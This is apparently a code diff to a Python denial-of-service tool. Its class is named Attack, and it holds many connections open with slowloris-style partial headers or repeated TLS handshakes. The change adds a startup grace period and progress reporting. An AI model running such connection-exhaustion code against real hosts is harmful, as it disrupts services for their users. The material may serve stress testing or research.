@@ -8,8 +8,9 @@ loris      finish the handshake, and send a header's letter every second
 handshake  finish the handshake, hang up, begin anew
 hello      send a ClientHello, hang up without reading the answer, begin anew
 
-Whatever the host ends is begun anew, so that as many as asked for are always there. Writes how
-many connections were opened, how many handshakes finished and how many there were at the most.
+Whatever the host ends is begun anew, so that as many as asked for are always there. Writes a line
+when that many were opened for the first time, from when the seconds count, and at the end how many
+were opened, how many handshakes finished and how many there were at the most.
 """
 
 from __future__ import annotations
@@ -26,6 +27,7 @@ import time
 from typing import Any
 
 _BEGUN_AT_ONCE = 200
+_PATIENCE = 30.0  # for a machine on which opening takes long
 _HEAD = b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: "
 
 
@@ -57,9 +59,15 @@ class Attack:
         self.opened = self.handshakes = self.most = self.ended = 0
 
     def run(self) -> None:
-        end = time.monotonic() + self._options["seconds"]
+        seconds = self._options["seconds"]
+        end = time.monotonic() + _PATIENCE + seconds
         letters = 0.0
+        is_full = False
         while (now := time.monotonic()) < end:
+            if not is_full and (self._is_full() or now >= end - seconds):
+                is_full = True
+                end = now + seconds
+                print("as many as asked for", flush=True)
             missing = self._options["connections"] - len(self._held)
             for _ in range(min(missing, _BEGUN_AT_ONCE)):
                 if not self._begin():
@@ -70,6 +78,9 @@ class Attack:
                 letters = now + 1.0
                 self._send_letters()
             self.most = max(self.most, len(self._held))
+
+    def _is_full(self) -> bool:
+        return bool(self.opened >= self._options["connections"])
 
     def _begin(self) -> bool:
         sock = socket.socket()
